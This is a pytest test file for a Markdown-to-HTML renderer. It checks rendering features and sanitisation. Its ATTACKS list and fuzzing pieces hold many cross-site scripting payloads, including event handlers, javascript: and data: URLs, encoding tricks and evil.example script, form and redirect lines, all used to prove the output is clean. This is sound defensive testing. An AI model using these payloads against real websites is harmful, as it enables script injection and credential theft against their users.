"""Contributed Markdown is shown as its author meant it, and can do nothing else."""

from __future__ import annotations

import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from brugwerk.render.markdown_text import HEADING_PREFIX, MarkdownText
from tests.html import Parsed, parse

TEXT = MarkdownText()


def block(text: str) -> Parsed:
    return parse(TEXT.block(text))


# What authors may use.


@pytest.mark.parametrize(
    ("text", "tags"),
    [
        ("Gewone tekst.", ["p"]),
        ("Een.\n\nTwee.", ["p", "p"]),
        ("*schuin* en **vet**", ["p", "em", "strong"]),
        ("- een\n- twee", ["ul", "li", "li"]),
        ("1. een\n2. twee", ["ol", "li", "li"]),
        ("> gezegd", ["blockquote", "p"]),
        ("`code`", ["p", "code"]),
        ("~~weg~~", ["p", "del"]),
        ("Term\n:   uitleg", ["dl", "dt", "dd"]),
        ("[x](https://example.org)", ["p", "a"]),
        ("---", ["hr"]),
        ("## Kop", ["h3"]),
    ],
)
def test_markdown_becomes_html(text: str, tags: list[str]) -> None:
    assert [element.tag for element in block(text).elements] == tags


def test_a_table_stands_in_a_named_place_that_the_keyboard_can_reach() -> None:
    place, table = block("| Stap | *Wie* |\n|---|---|\n| 1 | jij |\n").all("div", "table")
    assert place.attributes == {
        "class": "table-scroll",
        "role": "group",
        "tabindex": "0",
        "aria-label": "Stap, Wie",
    }
    assert table.text.split() == ["Stap", "Wie", "1", "jij"]


def test_a_table_without_words_in_its_header_has_a_place_without_a_name() -> None:
    (place,) = block("| | |\n|---|---|\n| 1 | 2 |\n").all("div")
    assert "aria-label" not in place.attributes


def test_a_table_keeps_its_alignment() -> None:
    found = block("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert [cell.get("class") for cell in found.all("th")] == ["align-center", "align-right"]


def test_a_list_of_tasks_has_boxes_that_cannot_be_ticked() -> None:
    boxes = block("- [ ] een\n- [x] twee").all("input")
    assert [box.get("type") for box in boxes] == ["checkbox", "checkbox"]
    assert all(box.get("disabled") is not None for box in boxes)
    assert [box.get("checked") is not None for box in boxes] == [False, True]


def test_an_admonition_keeps_its_kind_and_title() -> None:
    found = block('!!! tip "Let op"\n    Begin klein.')
    assert found.elements[0].get("class") == "admonition tip"
    assert "Let op" in found.text
    assert "Begin klein." in found.text


def test_a_footnote_leads_there_and_back() -> None:
    found = block("Bewezen[^1].\n\n[^1]: Een bron.")
    assert all(link.removeprefix("#") in found.ids() for link in found.links())
    assert len(found.links()) == 2


def test_a_picture_keeps_its_words() -> None:
    (picture,) = block("![Een kring](files/kring.png)").all("img")
    assert (picture.get("src"), picture.get("alt")) == ("files/kring.png", "Een kring")


def test_a_block_of_code_is_shown_as_it_was_typed() -> None:
    found = block("```\n<b>niet vet</b>\n\n{{ 7*7 }}\n```")
    (code,) = found.all("code")
    assert code.text.strip() == "<b>niet vet</b>\n\n{{ 7*7 }}"


@pytest.mark.parametrize(
    "text",
    [
        "Gewone tekst.",
        "3 + 4 = 7 & <5",
        "‘Aanhaling’ – en zo…",
        "é ü 😀",
        "%s %(x)s {n}",
        "a_b_c",
        "-",
    ],
)
def test_ordinary_words_are_shown_as_they_are(text: str) -> None:
    assert block(text).text.strip() in {text, ""}
    assert parse(TEXT.line(text)).text.strip() in {text, ""}


@given(st.text(st.characters(codec="utf-8", categories=("L", "N", "Zs", "Lo")), max_size=30))
def test_letters_and_digits_are_never_changed(text: str) -> None:
    assert block(text).text.strip() == text.strip()


def test_results_are_markup_that_a_template_does_not_escape_again() -> None:
    for text in ("a", "*a*", "<b>"):
        assert isinstance(TEXT.block(text), Markup)
        assert isinstance(TEXT.line(text), Markup)


def test_the_same_page_gives_the_same_html_every_time() -> None:
    def page() -> list[str]:
        TEXT.start_page()
        return [TEXT.block(text) for text in texts]

    texts = [
        "# Kop\n\nTekst[^1].\n\n[^1]: Bron.\n\n*[HTML]: taal",
        "# Kop\n\n[^1]\n\n[^1]: Anders.",
    ]
    first = page()
    TEXT.block(texts[0])
    assert page() == first


def test_an_abbreviation_of_one_text_does_not_reach_the_next() -> None:
    TEXT.block("*[IB]: intern begeleider\n\nDe IB.")
    assert block("De IB zei *niets*.").all("abbr") == []


# Lines inside a sentence.


def test_a_line_has_no_paragraph_around_it() -> None:
    assert TEXT.line("gewoon") == "gewoon"
    assert TEXT.line("heel *gewoon*") == "heel <em>gewoon</em>"


def test_a_line_of_more_paragraphs_keeps_them() -> None:
    assert len(parse(TEXT.line("*een*\n\n*twee*")).all("p")) == 2


# Headings.


def test_a_heading_is_never_the_title_of_the_page() -> None:
    assert [h.tag for h in block("# A\n\n## B\n\n#### C").elements] == ["h2", "h3", "h4"]


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("#### A\n\n#### B\n\n## C", "h3 h3 h3"),
        ("## A\n\n#### B\n\n##### C\n\n### D", "h3 h4 h5 h4"),
        ("# A\n\n### B\n\n# C", "h2 h3 h2"),
    ],
)
def test_headings_skip_no_level_and_those_of_one_level_stay_together(
    text: str, levels: str
) -> None:
    assert [heading.tag for heading in block(text).elements] == levels.split()


@pytest.mark.parametrize("text", ["# Vast en vrij", "# In het kort", "# ", "# 😀", "# A\n\n# A"])
def test_the_anchor_of_a_heading_never_meets_one_of_the_page(text: str) -> None:
    ids = block(text).ids()
    assert all(anchor.startswith(HEADING_PREFIX) for anchor in ids)
    assert len(ids) == len(set(ids))


def test_a_fence_cannot_claim_an_anchor_of_the_page() -> None:
    assert block("``` {.text #vast-kop}\ncode\n```").ids() == []


# Links.


def test_every_link_and_picture_is_pointed_to_where_the_page_stands() -> None:
    moved = MarkdownText(resolve=lambda target: f"../{target}")
    found = parse(moved.block("[a](x.md) ![b](y.png) [c][d]\n\n[d]: z.md"))
    assert found.links() == ["../x.md", "../z.md"]
    assert found.all("img")[0].get("src") == "../y.png"


def test_what_a_link_is_pointed_to_is_cleaned_as_well() -> None:
    moved = MarkdownText(resolve=lambda _: "javascript:alert(1)")
    assert parse(moved.block("[a](x.md)")).links() == []


def test_a_link_tells_the_other_site_nothing() -> None:
    (link,) = block("[x](https://example.org)").all("a")
    assert "noopener" in (link.get("rel") or "")


@pytest.mark.parametrize(
    "target", ["https://example.org/a?b=c#d", "mailto:x@example.org", "../a/", "#b"]
)
def test_a_harmless_link_is_kept(target: str) -> None:
    assert block(f"[x]({target})").links() == [target]


# Attacks.

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='//evil.example'><input name=password><button>x</button></form>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<td style='text-align: left;position:fixed'>x</td>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=x onmouseover=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<b onclick=alert(1)>x</b>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</div></section></main><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](a "t" onmouseover="alert(1)")',
    "[x](a 't\" onmouseover=\"alert(1)')",
    '![x" onerror="alert(1)](a)',
    '![x](a" onerror="alert(1))',
    "[<img src=x onerror=alert(1)>](a)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    '``` {.x #y onclick="alert(1)" style="position:fixed"}\nz\n```',
    '``` {title="<img src=x onerror=alert(1)>"}\nz\n```',
    '```"><script>alert(1)</script>\nz\n```',
    '!!! note "<script>alert(1)</script>"\n    x',
    '!!! "><script>" "x"\n    y',
    "# <script>alert(1)</script>",
    '# x {: onclick="alert(1)" }',
    "x {: style='position:fixed' onclick='alert(1)' }",
    "{: onclick=alert(1) }\nx",
    '*[x]: " onmouseover="alert(1)\n\nx',
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^"><script>]\n\n[^"><script>]: y',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <script>alert(1)</script>",
    "term <script>\n:   <script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02klzzwxh:0000\x03",
    "＜script＞alert(1)＜/script＞",
    "<a\x0chref=javascript:alert(1)>x</a>",
    "<x/onclick=alert(1)>y",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_reaches_the_page(attack: str) -> None:
    for around in ("{}", "Tekst {} tekst.", "- {}", "> {}", "*{}*"):
        text = around.format(attack)
        for html in (TEXT.block(text), TEXT.line(text)):
            assert parse(html).dangers() == []


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<b>vet</b>",
        "{{ 7*7 }}",
        "{% raw %}",
        "a < b > c",
        "<!-- x -->",
    ],
)
def test_markup_in_a_text_is_shown_as_text(text: str) -> None:
    assert block(text).text.strip() == text
    assert parse(TEXT.line(text)).text.strip() == text


@pytest.mark.parametrize("tag", ["b", "div", "span", "table", "a", "details", "input", "h2", "img"])
def test_html_of_an_author_is_not_an_element_even_where_it_is_harmless(tag: str) -> None:
    assert tag not in {element.tag for element in block(f"x <{tag}>y</{tag}> z").elements}


PIECES = st.sampled_from(
    [
        *("<script>", "</script>", "<img src=x onerror=alert(1)>", "<a href=", "javascript:", "'>"),
        *("[", "](", ")", "![", "<", ">", '"', "'", "`", "```", "\n", "\n\n", "    ", "# ", "- "),
        *("&#106;", "&lt;", "&", "{: onclick=x }", "\x02", "\x03", "\\", "*", "_", "|", "|---|"),
        *("[^1]", "[^1]: ", "!!! note", "*[x]: ", ": ", "x", "http://", "data:", "]: ", "//["),
    ]
)


@given(st.one_of(st.text(max_size=80), st.lists(PIECES, max_size=25).map("".join)))
def test_no_text_at_all_reaches_the_page_with_something_dangerous(text: str) -> None:
    assert block(text).dangers() == []
    assert parse(TEXT.line(text)).dangers() == []


@pytest.mark.parametrize(
    "piece", ["[", "*", "_", "`", "![](", "[a](", "<", "> ", "|", "~", "**a ", "[^1]", "- [ ] x\n"]
)
def test_a_long_text_of_one_sign_is_converted(piece: str) -> None:
    assert block(piece * (2_000 // len(piece))).dangers() == []


def test_a_long_list_of_meanings_does_not_stop_the_build() -> None:
    meanings = "".join(f"term {number}\n: uitleg\n" for number in range(sys.getrecursionlimit()))
    assert block(meanings).dangers() == []


def test_lists_in_lists_without_end_do_not_stop_the_build() -> None:
    limit = sys.getrecursionlimit()
    assert block("- " * limit + "x").dangers() == []


@pytest.mark.parametrize("text", ["Zo[^1].\n\n[^1]: Bron.", "# Kop"])
def test_two_texts_on_one_page_share_no_anchor(text: str) -> None:
    together = parse(TEXT.block(text) + TEXT.block(text))
    assert len(together.ids()) == len(set(together.ids()))


@pytest.mark.parametrize(
    "text",
    [
        "[x](//example.org/x)",
        "[x](/\\\\example.org/x)",
        "[x](\\\\\\\\example.org)",
        "![x](//example.org/x.png)",
        "![x](https://example.org/x.png)",
    ],
)
def test_nothing_leads_or_asks_elsewhere_unseen(text: str) -> None:
    found = block(text)
    assert [link for link in found.links() if "example" in link] == []
    assert [picture.get("src") for picture in found.all("img") if picture.get("src")] == []
